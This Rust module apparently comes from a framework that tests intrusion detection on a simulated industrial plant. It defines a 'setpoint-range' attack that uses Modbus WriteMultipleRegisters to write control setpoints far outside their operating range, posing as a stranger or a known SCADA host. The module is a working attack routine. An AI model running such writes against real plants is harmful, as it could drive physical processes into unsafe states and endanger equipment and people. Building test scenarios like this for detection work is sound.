//! Setpoint outside its range: writes to a control loop what no operator ever would.

use super::{Attack, Needs, technique};
use crate::plant::Role;
use crate::plant::points::Part;
use crate::stage::{Outcome, Stage};
use tokio_modbus::Request;

pub static ATTACK: Attack = Attack {
    name: "setpoint-range",
    about: "writes setpoints far outside the range in which the plant works",
    technique: technique("T0836"),
    acceptable: &["T0855", "T1692.001", "T0831"],
    grade: "A",
    kind: "fast",
    proto: "modbus",
    variants: &["stranger", "scada"],
    needs: Needs::Sockets,
    seconds: [600, 60, 10],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let intruder = if stage.is("scada") { stage.known(Role::Scada) } else { stage.stranger() };
    for _ in 0..stage.by(2, 3, 4) {
        let target = stage.point(Part::Setpoint);
        let point = target.point;
        let span = point.high - point.low;
        let value = if stage.rng.chance(0.5) { point.high + span * 2.0 } else { (point.low - span).max(0.0) };
        let mut master = intruder.modbus(stage.at(&target)).await?;
        let words = point.encode(value)[..usize::from(point.width())].to_vec();
        master.ask(target.unit, Request::WriteMultipleRegisters(point.addr, words.into())).await?;
        stage.wrote(&target, value);
        stage.pause(stage.by(240.0, 15.0, 1.0)).await;
    }
    stage.recovers(120.0);
    Ok(())
}
